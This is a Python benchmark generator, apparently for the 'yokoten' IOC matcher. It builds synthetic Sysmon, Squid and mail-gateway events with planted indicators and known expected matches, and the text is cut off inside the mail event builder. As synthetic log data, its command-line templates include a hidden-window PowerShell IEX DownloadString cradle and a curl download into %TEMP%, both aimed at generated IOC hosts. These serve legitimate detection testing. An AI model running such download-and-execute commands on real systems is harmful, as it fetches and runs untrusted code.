"""Seeded generator of a mixed event corpus and an IOC set whose matches are known.

Events come in the three formats yokoten reads, shaped like real exports:

- ``edr``: Sysmon and Security events as NXLog ships them (one JSON object per
  line, about 40 top-level fields, 1 to 2.5 KB), event ids 1, 3, 7, 11, 22 and
  the Security WFP event 5156.
- ``proxy``: Squid native access.log lines.
- ``mail``: ECS JSON documents of a mail gateway, with recipients and attachments.

IOCs are hashes (SHA-256, MD5, SHA-1), IPv4 addresses, domains, URLs, e-mail
addresses and a few CIDR blocks, all written in yokoten's canonical form so
that the topic key of each is ``type:value``. A fixed share of events (the hit
rate) gets one or two IOCs planted in fields where the matcher must find them,
and the generator records each planted IOC key per event. Every other value
(benign domains, addresses, hashes) is checked against the IOC set, so the
expected matches are exactly the planted ones. Some events also carry near
misses, such as ``xevil.example`` for the IOC ``evil.example``, that must not
match.

The IOC sequence depends only on the seed: the first N IOCs generated for a
set of 1M equal the set of N. IOCs are planted only from the first
``plant_from`` entries, so one event corpus has the same expected matches
against every larger IOC set generated with the same seed.

Command line::

    python benchmarks/corpus.py --events 200000 --iocs 100000 --seed 7 --out /tmp/corpus
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import random
import sys
import time
import uuid
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path

import orjson

KINDS = ("edr", "proxy", "mail")
FILE_NAMES = {"edr": "edr.jsonl", "proxy": "proxy.log", "mail": "mail.jsonl"}
KIND_CODES = {"edr": "E", "proxy": "P", "mail": "M"}
# Source kind and format of each event file, as the default matcher input bindings read them.
SOURCES = {"edr": "edr", "proxy": "proxy", "mail": "mail"}

# Default event mix: share of EDR, proxy and mail events.
DEFAULT_MIX = {"edr": 0.45, "proxy": 0.40, "mail": 0.15}
# Default IOC mix by generator type; CIDR blocks are added separately (CIDR_COUNT, first in the sequence).
DEFAULT_IOC_MIX = {"sha256": 0.30, "md5": 0.12, "sha1": 0.08, "ipv4": 0.20, "domain": 0.18, "url": 0.10, "email": 0.02}
CIDR_COUNT = 10
# Topic key prefix (yokoten's observable type name) of each generator type.
KEY_PREFIX = {
    "sha256": "sha256",
    "md5": "md5",
    "sha1": "sha1",
    "ipv4": "ipv4-addr",
    "cidr": "ipv4-addr",
    "domain": "domain-name",
    "url": "url",
    "email": "email-addr",
}
HASH_BITS = {"md5": 128, "sha1": 160, "sha256": 256}

# IPv4 first octets, kept apart so that benign addresses, IOC addresses and CIDR blocks never overlap.
IOC_OCTETS = (
    45,
    62,
    77,
    79,
    80,
    81,
    82,
    83,
    85,
    89,
    92,
    93,
    94,
    95,
    103,
    109,
    141,
    146,
    176,
    178,
    185,
    188,
    193,
    194,
    195,
    212,
    213,
    217,
)
CIDR_OCTETS = (5, 31, 37)
BENIGN_PUBLIC_OCTETS = (13, 20, 23, 40, 52, 104, 142, 151, 157)

_WORDS = (
    "secure",
    "login",
    "update",
    "account",
    "verify",
    "billing",
    "invoice",
    "portal",
    "service",
    "support",
    "office",
    "cloud",
    "docs",
    "share",
    "drive",
    "mail",
    "auth",
    "sso",
    "payment",
    "bank",
    "wallet",
    "track",
    "delivery",
    "parcel",
    "notice",
    "alert",
    "review",
    "sign",
    "doc",
    "file",
    "storage",
    "sync",
    "cdn",
    "static",
    "media",
    "img",
    "api",
    "gate",
    "node",
    "data",
    "stat",
    "metric",
    "check",
    "online",
    "web",
    "app",
    "my",
    "global",
    "micro",
    "soft",
    "net",
    "host",
    "link",
    "click",
    "news",
    "info",
    "promo",
    "offer",
    "prize",
)
_TLDS = ("com", "net", "org", "info", "xyz", "top", "ru", "io", "biz", "online", "site", "club", "cc", "su")
_PATH_WORDS = (
    "wp-content",
    "wp-admin",
    "uploads",
    "images",
    "js",
    "css",
    "admin",
    "gate",
    "panel",
    "files",
    "download",
    "dl",
    "update",
    "static",
    "assets",
    "api",
    "v1",
    "v2",
    "login",
    "index",
    "docs",
    "invoice",
    "doc",
)
_EXTENSIONS = (".php", ".exe", ".zip", ".js", ".ps1", ".hta", ".dll", ".bin", ".html", ".aspx", "")
_BENIGN_DOMAINS = (
    "microsoft.com",
    "windowsupdate.com",
    "office.com",
    "office365.com",
    "live.com",
    "msn.com",
    "bing.com",
    "google.com",
    "googleapis.com",
    "gstatic.com",
    "youtube.com",
    "amazonaws.com",
    "cloudfront.net",
    "akamaiedge.net",
    "akamaihd.net",
    "github.com",
    "githubusercontent.com",
    "slack.com",
    "zoom.us",
    "salesforce.com",
    "adobe.com",
    "apple.com",
    "icloud.com",
    "dropbox.com",
    "box.com",
    "atlassian.net",
    "okta.com",
    "linkedin.com",
    "twitter.com",
    "wikipedia.org",
    "python.org",
    "pypi.org",
    "debian.org",
    "ubuntu.com",
    "mozilla.org",
    "digicert.com",
    "letsencrypt.org",
    "cloudflare.com",
    "fastly.net",
    "doubleclick.net",
    "google-analytics.com",
    "corp.example",
    "intranet.corp.example",
)
_BENIGN_SUBDOMAINS = (
    "www",
    "login",
    "api",
    "cdn",
    "static",
    "update",
    "download",
    "mail",
    "outlook",
    "docs",
    "assets",
    "v10",
    "edge",
    "client",
)
_BENIGN_PATHS = (
    "/",
    "/index.html",
    "/favicon.ico",
    "/styles.css",
    "/js/app.js",
    "/api/v1/status",
    "/news",
    "/search",
    "/images/logo.png",
    "/login",
    "/oauth2/authorize",
    "/v1/metrics",
    "/updates/manifest.json",
    "/cab/update.cab",
)
_SQUID_ACTIONS = (
    "TCP_MISS/200",
    "TCP_MISS/200",
    "TCP_MISS/200",
    "TCP_HIT/200",
    "TCP_REFRESH_HIT/304",
    "TCP_MISS/404",
    "TCP_DENIED/403",
    "TCP_MEM_HIT/200",
)
_CONTENT_TYPES = (
    "text/html",
    "text/css",
    "application/javascript",
    "image/png",
    "application/json",
    "application/octet-stream",
    "-",
)
_IMAGES = (
    "C:\\Windows\\System32\\svchost.exe",
    "C:\\Windows\\System32\\RuntimeBroker.exe",
    "C:\\Windows\\System32\\conhost.exe",
    "C:\\Windows\\explorer.exe",
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "C:\\Windows\\System32\\cmd.exe",
    "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
    "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
    "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
    "C:\\Program Files\\Common Files\\microsoft shared\\ClickToRun\\OfficeClickToRun.exe",
    "C:\\Windows\\System32\\msiexec.exe",
    "C:\\Windows\\System32\\taskhostw.exe",
)
_DLLS = (
    "ntdll.dll",
    "kernel32.dll",
    "KernelBase.dll",
    "advapi32.dll",
    "wininet.dll",
    "crypt32.dll",
    "amsi.dll",
    "clr.dll",
    "mscoree.dll",
)
_ATTACHMENT_NAMES = (
    "invoice",
    "statement",
    "report",
    "scan",
    "order",
    "contract",
    "resume",
    "payment",
    "shipping",
    "minutes",
)
_ATTACHMENT_TYPES = (
    ("pdf", "application/pdf"),
    ("docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ("zip", "application/zip"),
    ("png", "image/png"),
    ("html", "text/html"),
)
_SUBJECTS = (
    "Weekly status",
    "Re: Q3 planning",
    "Invoice {n}",
    "Your order {n} has shipped",
    "Meeting notes",
    "Action required: password expiry",
    "FW: contract draft",
    "Team lunch",
    "Payroll update {n}",
    "Security notice",
)
# Planted IOC types each event kind can carry, with weights.
PLANT_TYPES = {
    "edr": {"sha256": 25, "md5": 10, "sha1": 8, "ipv4": 15, "domain": 20, "url": 15, "cidr": 7},
    "proxy": {"url": 40, "domain": 38, "ipv4": 15, "cidr": 7},
    "mail": {"sha256": 45, "md5": 15, "sha1": 10, "email": 30},
}
BASE_TIME = datetime(2026, 1, 5, 8, 0, 0, tzinfo=UTC).timestamp()


def ioc_key(kind: str, value: str) -> str:
    """Return the IOC topic key ``type:value`` for a generator type and canonical value."""
    return f"{KEY_PREFIX[kind]}:{value}"


@dataclass
class IocSet:
    """IOCs in generation order, with the lookup sets the event generator checks benign values against."""

    seed: int
    items: list[tuple[str, str]] = field(default_factory=list)
    keys: set[str] = field(default_factory=set)
    domains: set[str] = field(default_factory=set)
    registered: set[str] = field(default_factory=set)
    ips: set[int] = field(default_factory=set)
    cidrs: list[ipaddress.IPv4Network] = field(default_factory=list)

    def __len__(self) -> int:
        return len(self.items)

    def records(self, count: int | None = None) -> Iterator[dict[str, object]]:
        """Yield IOC topic records (``schemas/ioc.schema.json``) of the first ``count`` IOCs."""
        severities = ("low", "medium", "high", "critical")
        for position, (kind, value) in enumerate(self.items[:count]):
            yield {
                "type": KEY_PREFIX[kind],
                "value": value,
                "source": "bench-feed",
                "severity": severities[position % 4],
                "confidence": 50 + position % 50,
                "tags": ["benchmark"],
            }

    def is_ioc_domain(self, name: str) -> bool:
        """Return True when ``name`` or one of its parents is a domain IOC, or uses a registered IOC name."""
        labels = name.split(".")
        for start in range(len(labels) - 1):
            parent = ".".join(labels[start:])
            if parent in self.domains or parent in self.registered:
                return True
        return False

    def is_ioc_ip(self, address: str) -> bool:
        number = int(ipaddress.IPv4Address(address))
        return number in self.ips or any(number & int(net.netmask) == int(net.network_address) for net in self.cidrs)


def _label(rng: random.Random) -> str:
    first, second = rng.choice(_WORDS), rng.choice(_WORDS)
    separator = rng.choice(("", "-"))
    digits = str(rng.randrange(10, 10000)) if rng.random() < 0.7 else ""
    return f"{first}{separator}{second}{digits}"


def _new_registered(rng: random.Random, iocs: IocSet) -> str:
    """Return a new registrable name (``label.tld``) no other IOC uses, and reserve it."""
    while True:
        name = f"{_label(rng)}.{rng.choice(_TLDS)}"
        if name not in iocs.registered:
            iocs.registered.add(name)
            return name


def _new_ioc_ip(rng: random.Random, iocs: IocSet) -> str:
    while True:
        number = (rng.choice(IOC_OCTETS) << 24) | rng.getrandbits(24)
        if number & 0xFF in (0, 255) or number in iocs.ips:
            continue
        iocs.ips.add(number)
        return str(ipaddress.IPv4Address(number))


def _url_path(rng: random.Random) -> str:
    parts = [rng.choice(_PATH_WORDS) for _ in range(rng.randrange(1, 4))]
    name = f"{rng.choice(_PATH_WORDS)}{rng.randrange(1, 999)}{rng.choice(_EXTENSIONS)}"
    path = "/" + "/".join([*parts, name])
    if rng.random() < 0.3:
        path += f"?id={rng.randrange(100000)}&k={rng.getrandbits(32):08x}"
    return path


def _cidr(rng: random.Random, iocs: IocSet) -> str:
    while True:
        prefix = rng.choice((16, 20, 24, 24, 28))
        number = (rng.choice(CIDR_OCTETS) << 24) | rng.getrandbits(24)
        network = ipaddress.IPv4Network((number, prefix), strict=False)
        if not any(network.overlaps(other) for other in iocs.cidrs):
            iocs.cidrs.append(network)
            return str(network)


def generate_iocs(count: int, seed: int, mix: dict[str, float] | None = None) -> IocSet:
    """Generate ``count`` distinct IOCs in canonical form; a prefix of a larger set equals a smaller set."""
    rng = random.Random(f"iocs-{seed}")
    weights = mix or DEFAULT_IOC_MIX
    kinds, cumulative = list(weights), []
    total = 0.0
    for kind in kinds:
        total += weights[kind]
        cumulative.append(total)
    iocs = IocSet(seed=seed)
    while len(iocs.items) < count:
        if len(iocs.items) < min(CIDR_COUNT, count):
            kind, value = "cidr", _cidr(rng, iocs)
        else:
            kind = rng.choices(kinds, cum_weights=cumulative)[0]
            value = _new_value(kind, rng, iocs)
        key = ioc_key(kind, value)
        if key in iocs.keys:
            continue
        iocs.keys.add(key)
        iocs.items.append((kind, value))
    return iocs


def _new_value(kind: str, rng: random.Random, iocs: IocSet) -> str:
    if kind in HASH_BITS:
        bits = HASH_BITS[kind]
        return f"{rng.getrandbits(bits):0{bits // 4}x}"
    if kind == "ipv4":
        return _new_ioc_ip(rng, iocs)
    if kind == "domain":
        name = _new_registered(rng, iocs)
        if rng.random() < 0.25:
            name = f"{rng.choice(_WORDS)}.{name}"
        iocs.domains.add(name)
        return name
    if kind == "url":
        if rng.random() < 0.1:
            # The address is reserved but no IP IOC, so only the URL IOC matches.
            host = _new_ioc_ip(rng, iocs)
        else:
            host = _new_registered(rng, iocs)
            host = f"www.{host}" if rng.random() < 0.3 else host
        return host + _url_path(rng)
    if kind == "email":
        return f"{rng.choice(_WORDS)}{rng.randrange(1, 999)}@{_new_registered(rng, iocs)}"
    raise ValueError(f"unknown IOC generator type {kind!r}")


@dataclass
class Corpus:
    """Events in produce order and the IOC keys expected per event index."""

    events: list[tuple[str, bytes]]
    expected: dict[int, frozenset[str]]
    iocs: IocSet
    seed: int
    hit_rate: float
    near_misses: int = 0

    def by_kind(self) -> dict[str, list[bytes]]:
        files: dict[str, list[bytes]] = {kind: [] for kind in KINDS}
        for kind, raw in self.events:
            files[kind].append(raw)
        return files


class EventFactory:
    """Builds single events; ``plants`` are (generator type, IOC value) pairs to place in the event."""

    def __init__(self, rng: random.Random, iocs: IocSet, hosts: int, near_miss_domains: list[str]) -> None:
        self.rng = rng
        self.iocs = iocs
        self.near_miss_domains = near_miss_domains
        self.hosts = [f"ws{number:04d}" for number in range(1, hosts + 1)]
        self.record_number = 2_000_000

    # -- benign values -----------------------------------------------------

    def benign_domain(self) -> str:
        while True:
            base = self.rng.choice(_BENIGN_DOMAINS)
            name = f"{self.rng.choice(_BENIGN_SUBDOMAINS)}.{base}" if self.rng.random() < 0.8 else base
            if not self.iocs.is_ioc_domain(name):
                return name

    def benign_public_ip(self) -> str:
        while True:
            rng = self.rng
            octets = (rng.choice(BENIGN_PUBLIC_OCTETS), rng.randrange(256), rng.randrange(256), rng.randrange(1, 255))
            address = ".".join(str(octet) for octet in octets)
            if not self.iocs.is_ioc_ip(address):
                return address

    def internal_ip(self, host_index: int) -> str:
        return f"10.20.{host_index // 250}.{host_index % 250 + 1}"

    def benign_hash(self, bits: int) -> str:
        return f"{self.rng.getrandbits(bits):0{bits // 4}X}"

    def guid(self) -> str:
        return "{" + str(uuid.UUID(int=self.rng.getrandbits(128))) + "}"

    # -- IOC placement helpers ----------------------------------------------

    def ip_in(self, cidr: str) -> str:
        network = ipaddress.IPv4Network(cidr)
        offset = self.rng.randrange(1, network.num_addresses - 1)
        return str(network.network_address + offset)

    def as_written_domain(self, domain: str) -> tuple[str, bool]:
        """Return how a log writes an IOC domain: as is, upper case, or a subdomain of it."""
        roll = self.rng.random()
        if roll < 0.3:
            return f"{self.rng.choice(_BENIGN_SUBDOMAINS)}.{domain}", True
        if roll < 0.4:
            return domain.upper(), True
        return domain, True

    # -- EDR -----------------------------------------------------------------

    def _sysmon_base(
        self, event_id: int, seconds: float, host_index: int, task: int, category: str
    ) -> dict[str, object]:
        self.record_number += 1
        moment = datetime.fromtimestamp(seconds, tz=UTC)
        utc = moment.strftime("%Y-%m-%d %H:%M:%S.") + f"{moment.microsecond // 1000:03d}"
        local = moment.strftime("%Y-%m-%d %H:%M:%S")
        user = self.rng.random()
        account = (
            "NT AUTHORITY\\SYSTEM" if user < 0.45 else f"CORP\\user{self.rng.randrange(1, len(self.hosts) + 1):04d}"
        )
        return {
            "Keywords": -9223372036854775808,
            "SeverityValue": 2,
            "EventReceivedTime": local,
            "EventID": event_id,
            "ProviderGuid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
            "ExecutionProcessID": 3392,
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "host": "wec.corp.example",
            "AccountType": "User",
            "UserID": "S-1-5-18",
            "ThreadID": self.rng.randrange(1000, 9999),
            "EventType": "INFO",
            "Opcode": "Info",
            "EventTime": local,
            "@timestamp": moment.strftime("%Y-%m-%dT%H:%M:%S.") + f"{moment.microsecond // 1000:03d}Z",
            "SourceModuleType": "im_msvistalog",
            "port": 64545,
            "AccountName": "SYSTEM",
            "RecordNumber": self.record_number,
            "Task": task,
            "Domain": "NT AUTHORITY",
            "@version": "1",
            "OpcodeValue": 0,
            "SourceModuleName": "eventlog",
            "Severity": "INFO",
            "SourceName": "Microsoft-Windows-Sysmon",
            "Version": 5,
            "Category": category,
            "UtcTime": utc,
            "Hostname": f"{self.hosts[host_index].upper()}.corp.example",
            "RuleName": "-",
            "ProcessGuid": self.guid(),
            "ProcessId": str(self.rng.randrange(200, 12000)),
            "Image": self.rng.choice(_IMAGES),
            "User": account,
            "tags": ["sysmon"],
        }

    def _hashes(self, plant: tuple[str, str] | None) -> str:
        digests = {
            "SHA1": self.benign_hash(160),
            "MD5": self.benign_hash(128),
            "SHA256": self.benign_hash(256),
            "IMPHASH": self.benign_hash(128),
        }
        if plant is not None:
            digests[plant[0].upper()] = plant[1].upper() if self.rng.random() < 0.8 else plant[1]
        return ",".join(f"{name}={digest}" for name, digest in digests.items())

    def benign_command_line(self, image: str) -> str:
        rng = self.rng
        choice = rng.randrange(9)
        if choice == 0:
            return "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"
        if choice == 1:
            return "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding"
        if choice == 2:
            return (
                '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer '
                "--display-capture-permissions-policy-allowed --lang=en-US --device-scale-factor=1 "
                f"--num-raster-threads=2 --renderer-client-id={rng.randrange(5, 400)} "
                f"--field-trial-handle={rng.randrange(1000, 9999)},i,{rng.getrandbits(60)},"
                f"{rng.getrandbits(60)},262144 "
                f"--mojo-platform-channel-handle={rng.randrange(1000, 9999)} /prefetch:1 https://{self.benign_domain()}{rng.choice(_BENIGN_PATHS)}"
            )
        if choice == 3:
            return (
                "powershell.exe -NoProfile -ExecutionPolicy Bypass "
                f"-File C:\\ProgramData\\scripts\\inventory-{rng.randrange(100)}.ps1"
            )
        if choice == 4:
            return f"cmd.exe /c ping -n 1 {self.benign_public_ip()}"
        if choice == 5:
            return "C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"
        if choice == 6:
            return '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" /recycle'
        if choice == 7:
            return f"msiexec.exe /i https://{self.benign_domain()}/downloads/agent-{rng.randrange(1, 50)}.msi /qn"
        return (
            f'"{image}" --type=utility --utility-sub-type=network.mojom.NetworkService '
            "--lang=en-US --service-sandbox-type=none"
        )

    def _planted_command_line(self, kind: str, value: str) -> str:
        rng = self.rng
        if kind == "url":
            scheme = rng.choice(("http", "https"))
            return f"powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('{scheme}://{value}')\""
        if kind == "domain":
            written, _ = self.as_written_domain(value)
            if rng.random() < 0.5:
                return f"cmd.exe /c nslookup {written}"
            return f"curl.exe -s -o %TEMP%\\a.bin https://{written}/api/v2/{rng.randrange(1000)}"
        if kind == "ipv4":
            return f'powershell.exe -c "Test-NetConnection {value} -Port {rng.choice((443, 8080, 4444))}"'
        raise ValueError(f"no command line template for IOC type {kind!r}")

    def near_miss_command_line(self) -> str:
        """Return a command line with IOC look-alikes that must not match."""
        if not self.near_miss_domains:
            return self.benign_command_line("cmd.exe")
        domain = self.rng.choice(self.near_miss_domains)
        return f"cmd.exe /c nslookup x{domain} && nslookup {domain}.{self.benign_domain()}"

    def edr(self, seconds: float, plants: list[tuple[str, str]], near_miss: bool) -> tuple[bytes, set[str]]:
        rng = self.rng
        host_index = rng.randrange(len(self.hosts))
        expected: set[str] = set()
        types = {kind for kind, _ in plants}
        if types & HASH_BITS.keys():
            # Event 7 has no command line, so a hash with a second IOC goes into a process create.
            event_id = 1 if len(plants) > 1 else rng.choice((1, 1, 7))
        elif "url" in types:
            event_id = 1
        elif types == {"domain", "ipv4"}:
            event_id = rng.choice((3, 22))
        elif "domain" in types:
            event_id = rng.choice((1, 3, 22, 22))
        elif "ipv4" in types:
            event_id = rng.choice((1, 3, 22, 5156))
        elif "cidr" in types:
            event_id = rng.choice((3, 5156))
        elif near_miss:
            event_id = 1
        else:
            event_id = rng.choices((1, 3, 7, 11, 22, 5156), weights=(20, 15, 10, 15, 15, 25))[0]

        pending = list(plants)
        if event_id == 5156:
            record = self._security_5156(seconds, host_index, pending, expected)
            return orjson.dumps(record), expected
        categories = {
            1: (1, "Process Create (rule: ProcessCreate)"),
            3: (3, "Network connection detected (rule: NetworkConnect)"),
            7: (7, "Image loaded (rule: ImageLoad)"),
            11: (11, "File created (rule: FileCreate)"),
            22: (22, "Dns query (rule: DnsQuery)"),
        }
        task, category = categories[event_id]
        record = self._sysmon_base(event_id, seconds, host_index, task, category)
        image = str(record["Image"])

        if event_id == 1:
            hash_plant = next((plant for plant in pending if plant[0] in HASH_BITS), None)
            text_plant = next((plant for plant in pending if plant[0] in ("url", "domain", "ipv4")), None)
            if hash_plant is not None:
                pending.remove(hash_plant)
                expected.add(ioc_key(*hash_plant))
            if text_plant is not None:
                pending.remove(text_plant)
                expected.add(ioc_key(*text_plant))
                command_line = self._planted_command_line(*text_plant)
            elif near_miss:
                command_line = self.near_miss_command_line()
            else:
                command_line = self.benign_command_line(image)
            record.update(
                {
                    "CommandLine": command_line,
                    "CurrentDirectory": "C:\\Windows\\system32\\",
                    "Description": "Windows host process",
                    "Company": "Microsoft Corporation",
                    "Product": "Microsoft Windows Operating System",
                    "FileVersion": "10.0.19041.1806 (WinBuild.160101.0800)",
                    "IntegrityLevel": rng.choice(("System", "High", "Medium")),
                    "Hashes": self._hashes(hash_plant),
                    "ParentProcessGuid": self.guid(),
                    "ParentProcessId": str(rng.randrange(200, 12000)),
                    "ParentImage": "C:\\Windows\\explorer.exe",
                    "ParentCommandLine": "C:\\Windows\\Explorer.EXE",
                    "LogonGuid": self.guid(),
                    "LogonId": f"0x{rng.getrandbits(24):x}",
                    "TerminalSessionId": "1",
                    "OriginalFileName": image.rsplit("\\", 1)[-1],
                }
            )
        elif event_id == 7:
            hash_plant = next((plant for plant in pending if plant[0] in HASH_BITS), None)
            if hash_plant is not None:
                pending.remove(hash_plant)
                expected.add(ioc_key(*hash_plant))
            dll = rng.choice(_DLLS)
            record.update(
                {
                    "ImageLoaded": f"C:\\Windows\\System32\\{dll}",
                    "FileVersion": "10.0.19041.1806 (WinBuild.160101.0800)",
                    "Description": "Windows library",
                    "Product": "Microsoft Windows Operating System",
                    "Company": "Microsoft Corporation",
                    "OriginalFileName": dll,
                    "Hashes": self._hashes(hash_plant),
                    "Signed": "true",
                    "Signature": "Microsoft Windows",
                    "SignatureStatus": "Valid",
                }
            )
        elif event_id == 3:
            destination_ip = (
                self.benign_public_ip()
                if rng.random() < 0.6
                else f"172.18.{rng.randrange(256)}.{rng.randrange(1, 255)}"
            )
            destination_host = self.benign_domain() if rng.random() < 0.4 else "-"
            for plant in list(pending):
                if plant[0] in ("ipv4", "cidr"):
                    destination_ip = plant[1] if plant[0] == "ipv4" else self.ip_in(plant[1])
                elif plant[0] == "domain":
                    destination_host, _ = self.as_written_domain(plant[1])
                else:
                    continue
                pending.remove(plant)
                expected.add(ioc_key(*plant))
            record.update(
                {
                    "Protocol": "tcp",
                    "Initiated": "true",
                    "SourceIsIpv6": "false",
                    "SourceIp": self.internal_ip(host_index),
                    "SourceHostname": "-",
                    "SourcePort": str(rng.randrange(49152, 65535)),
                    "SourcePortName": "-",
                    "DestinationIsIpv6": "false",
                    "DestinationIp": destination_ip,
                    "DestinationHostname": destination_host,
                    "DestinationPort": str(rng.choice((443, 80, 8080, 135, 445))),
                    "DestinationPortName": "-",
                }
            )
        elif event_id == 22:
            query = self.benign_domain()
            answers = [self.benign_public_ip() for _ in range(rng.randrange(1, 3))]
            for plant in list(pending):
                if plant[0] == "domain":
                    query, _ = self.as_written_domain(plant[1])
                elif plant[0] == "ipv4":
                    answers[0] = plant[1]
                else:
                    continue
                pending.remove(plant)
                expected.add(ioc_key(*plant))
            record.update(
                {
                    "QueryName": query,
                    "QueryStatus": "0",
                    "QueryResults": "".join(f"::ffff:{answer};" for answer in answers),
                }
            )
        elif event_id == 11:
            record.update(
                {
                    "TargetFilename": f"C:\\Users\\user{host_index:04d}\\AppData\\Local\\Temp\\{self.guid()}.tmp",
                    "CreationUtcTime": record["UtcTime"],
                }
            )

        if pending:
            raise AssertionError(f"EDR event {event_id} could not place IOCs {pending}")
        return orjson.dumps(record), expected

    def _security_5156(
        self, seconds: float, host_index: int, pending: list[tuple[str, str]], expected: set[str]
    ) -> dict[str, object]:
        rng = self.rng
        destination = self.benign_public_ip()
        for plant in list(pending):
            if plant[0] in ("ipv4", "cidr"):
                destination = plant[1] if plant[0] == "ipv4" else self.ip_in(plant[1])
                pending.remove(plant)
                expected.add(ioc_key(*plant))
                break
        if pending:
            raise AssertionError(f"event 5156 could not place IOCs {pending}")
        moment = datetime.fromtimestamp(seconds, tz=UTC)
        self.record_number += 1
        return {
            "Keywords": -9214364837600034816,
            "SeverityValue": 2,
            "Application": "\\device\\harddiskvolume2\\program files\\google\\chrome\\application\\chrome.exe",
            "EventID": 5156,
            "ProviderGuid": "{54849625-5478-4994-A5BA-3E3B0328C30D}",
            "ExecutionProcessID": 4,
            "Channel": "Security",
            "host": "wec.corp.example",
            "FilterRTID": str(rng.randrange(60000, 90000)),
            "ThreadID": rng.randrange(1000, 9999),
            "EventType": "AUDIT_SUCCESS",
            "Opcode": "Info",
            "EventTime": moment.strftime("%Y-%m-%d %H:%M:%S"),
            "@timestamp": moment.strftime("%Y-%m-%dT%H:%M:%S.") + f"{moment.microsecond // 1000:03d}Z",
            "SourceModuleType": "im_msvistalog",
            "port": 64545,
            "LayerName": "%%14611",
            "RecordNumber": self.record_number,
            "Task": 12810,
            "DestAddress": destination,
            "SourceModuleName": "eventlog",
            "Severity": "INFO",
            "SourceName": "Microsoft-Windows-Security-Auditing",
            "Version": 1,
            "Direction": "%%14593",
            "Category": "Filtering Platform Connection",
            "SourceAddress": self.internal_ip(host_index),
            "SourcePort": str(rng.randrange(49152, 65535)),
            "DestPort": str(rng.choice((443, 80, 53))),
            "Protocol": "6",
            "ProcessID": str(rng.randrange(200, 12000)),
            "EventReceivedTime": moment.strftime("%Y-%m-%d %H:%M:%S"),
            "Hostname": f"{self.hosts[host_index].upper()}.corp.example",
            "LayerRTID": "48",
            "tags": ["security"],
        }

    # -- proxy ---------------------------------------------------------------

    def proxy(self, seconds: float, plants: list[tuple[str, str]], near_miss: bool) -> tuple[bytes, set[str]]:
        rng = self.rng
        host_index = rng.randrange(len(self.hosts))
        expected: set[str] = set()
        method = rng.choice(("GET", "GET", "GET", "POST", "CONNECT"))
        host = self.benign_domain()
        peer = self.benign_public_ip()
        url: str | None = None
        for kind, value in plants:
            expected.add(ioc_key(kind, value))
            if kind == "url":
                method = rng.choice(("GET", "POST"))
                url = f"{rng.choice(('http', 'https'))}://{value}"
                if "?" not in value and rng.random() < 0.3:
                    url += f"?utm_source=mail&r={rng.randrange(10000)}"
            elif kind == "domain":
                host, _ = self.as_written_domain(value)
            elif kind == "ipv4":
                peer = value
            elif kind == "cidr":
                peer = self.ip_in(value)
            else:
                raise AssertionError(f"proxy event cannot carry IOC type {kind}")
        if near_miss and not plants:
            if self.near_miss_domains:
                candidate = f"x{rng.choice(self.near_miss_domains)}"
                if not self.iocs.is_ioc_domain(candidate):
                    host = candidate
        if url is None:
            if method == "CONNECT":
                url = f"{host}:443"
            else:
                url = f"{rng.choice(('http', 'https'))}://{host}{rng.choice(_BENIGN_PATHS)}"
        action = "TCP_TUNNEL/200" if method == "CONNECT" else rng.choice(_SQUID_ACTIONS)
        hit = action.startswith(("TCP_HIT", "TCP_MEM_HIT")) and not plants
        hierarchy = "NONE/-" if hit else f"HIER_DIRECT/{peer}"
        content_type = "-" if method == "CONNECT" else rng.choice(_CONTENT_TYPES)
        user = f"user{host_index + 1:04d}" if rng.random() < 0.7 else "-"
        line = (
            f"{seconds:.3f} {rng.randrange(0, 6000):6d} {self.internal_ip(host_index)} {action} "
            f"{rng.randrange(200, 60000)} {method} {url} {user} {hierarchy} {content_type}"
        )
        return line.encode("utf-8"), expected

    # -- mail ----------------------------------------------------------------

    def mail(self, seconds: float, plants: list[tuple[str, str]], near_miss: bool) -> tuple[bytes, set[str]]:
        rng = self.rng
        expected: set[str] = set()
        moment = datetime.fromtimestamp(seconds, tz=UTC)
        recipients = [
            f"user{rng.randrange(1, len(self.hosts) + 1):04d}@corp.example" for _ in range(rng.choice((1, 1, 1, 2, 3)))
        ]
        sender = f"{rng.choice(_WORDS)}{rng.randrange(100)}@{self.benign_domain()}"
        hash_plants = [plant for plant in plants if plant[0] in HASH_BITS]
        attachments = []
        for position in range(max(len(hash_plants), rng.choice((0, 0, 1, 1, 2)))):
            extension, mime = rng.choice(_ATTACHMENT_TYPES)
            digests = {"sha256": f"{rng.getrandbits(256):064x}"}
            if position < len(hash_plants):
                kind, value = hash_plants[position]
                digests[kind] = value
                expected.add(ioc_key(kind, value))
            attachments.append(
                {
                    "file": {
                        "name": f"{rng.choice(_ATTACHMENT_NAMES)}_{rng.randrange(1000, 9999)}.{extension}",
                        "extension": extension,
                        "mime_type": mime,
                        "size": rng.randrange(2000, 4_000_000),
                        "hash": digests,
                    }
                }
            )
        for kind, value in plants:
            if kind == "email":
                expected.add(ioc_key(kind, value))
                local, _, domain = value.partition("@")
                sender = (
                    f'"{local.title()} Billing" <{local.title()}@{domain.upper()}>' if rng.random() < 0.5 else value
                )
            elif kind not in HASH_BITS:
                raise AssertionError(f"mail event cannot carry IOC type {kind}")
        document = {
            "@timestamp": moment.strftime("%Y-%m-%dT%H:%M:%S.") + f"{moment.microsecond // 1000:03d}Z",
            "event": {
                "category": ["email"],
                "type": ["info"],
                "action": "delivered",
                "dataset": "mail.gateway",
                "outcome": "success",
                "id": str(uuid.UUID(int=rng.getrandbits(128))),
            },
            "email": {
                "direction": "inbound",
                "from": {"address": [sender]},
                "to": {"address": recipients},
